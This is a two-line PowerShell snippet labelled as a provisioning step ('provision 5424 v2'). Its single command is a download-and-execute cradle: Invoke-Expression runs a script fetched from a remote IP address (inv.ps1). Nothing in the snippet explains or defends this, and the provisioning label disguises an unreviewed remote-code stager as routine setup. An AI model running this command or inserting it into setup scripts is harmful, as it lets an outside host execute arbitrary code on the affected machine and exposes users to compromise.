# provision 5424 v2
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/inv.ps1')
